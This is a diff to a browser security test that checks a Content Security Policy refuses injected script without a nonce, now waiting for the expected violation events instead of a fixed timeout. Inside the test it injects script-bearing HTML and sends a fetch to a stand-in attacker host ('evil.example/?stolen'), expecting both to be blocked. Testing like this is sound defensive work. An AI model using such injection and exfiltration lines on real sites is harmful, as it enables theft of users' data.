@@ -120,7 +120,13 @@ describe("19. what a log would do to a browser", () => {
   it("nor could a script that got into the page: it has no nonce", async () => {
     const found = await page.evaluate(async () => {
       const seen: string[] = [];
-      document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
+      const wanted = ["script-src-attr", "script-src-elem", "connect-src"];
+      const refused = new Promise<void>((resolve) => {
+        document.addEventListener("securitypolicyviolation", (event) => {
+          seen.push(event.effectiveDirective);
+          if (wanted.every((directive) => seen.includes(directive))) resolve();
+        });
+      });
       const owned = "(window.parent ?? window).owned = 1";
       document.body.insertAdjacentHTML(
         "beforeend",
@@ -131,7 +137,13 @@ describe("19. what a log would do to a browser", () => {
       );
       document.getElementById("lure")?.click();
       const elsewhere = await fetch("https://evil.example/?stolen").catch(() => "blocked");
-      await new Promise((resolve) => setTimeout(resolve, 500));
+      await refused;
+      // What was let through instead would run as a task that is already queued.
+      const picture = new Image();
+      await new Promise((resolve) => {
+        picture.addEventListener("error", resolve);
+        picture.src = "/nothing-of-that-name.png";
+      });
       return { seen, owned: (window as { owned?: number }).owned ?? null, elsewhere };
     });
     expect(found).toMatchObject({ owned: null, elsewhere: "blocked" });
